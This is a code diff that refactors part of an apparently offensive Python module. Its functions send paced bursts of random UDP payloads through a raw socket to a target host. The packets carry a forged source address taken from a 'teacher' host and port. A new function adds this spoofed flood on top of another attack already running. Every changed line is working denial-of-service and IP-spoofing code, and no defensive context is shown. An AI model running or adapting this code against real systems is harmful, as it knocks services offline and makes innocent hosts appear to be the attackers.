@@ -60,10 +60,20 @@ def garbage(chance: Random) -> list[bytes]:
 
 
 async def from_teacher(attacker: Attacker) -> None:
+    await _flood(attacker, _teacher(attacker))
+
+
+async def flood_from(attacker: Attacker) -> None:
+    """The same beside another attack, which has begun."""
+    with _raw_socket() as raw:
+        await _pour(attacker, raw, _teacher(attacker))
+
+
+def _teacher(attacker: Attacker) -> Source:
     if not attacker.order.teacher_port:
         raise RuntimeError("the teacher's port is not known")
     source = (attacker.order.host, attacker.order.teacher_port)
-    await _flood(attacker, lambda: source)
+    return lambda: source
 
 
 async def from_anywhere(attacker: Attacker) -> None:
@@ -77,15 +87,23 @@ async def from_anywhere(attacker: Attacker) -> None:
 
 
 async def _flood(attacker: Attacker, source: Source) -> None:
+    with _raw_socket() as raw:
+        await attacker.begin()
+        await _pour(attacker, raw, source)
+
+
+def _raw_socket() -> socket.socket:
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+async def _pour(attacker: Attacker, raw: socket.socket, source: Source) -> None:
     target = (attacker.order.host, attacker.order.udp_port)
     payloads = garbage(Random(os.urandom(4)))
-    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
-        await attacker.begin()
-        async for due in attacker.pace(RATE):
-            for _ in range(min(due, MAX_BURST)):
-                payload = payloads[attacker.outcome.sent % len(payloads)]
-                raw.sendto(datagram(source(), target, payload), (target[0], 0))
-                attacker.count(len(payload))
+    async for due in attacker.pace(RATE):
+        for _ in range(min(due, MAX_BURST)):
+            payload = payloads[attacker.outcome.sent % len(payloads)]
+            raw.sendto(datagram(source(), target, payload), (target[0], 0))
+            attacker.count(len(payload))
 
 
 ATTACKS = (
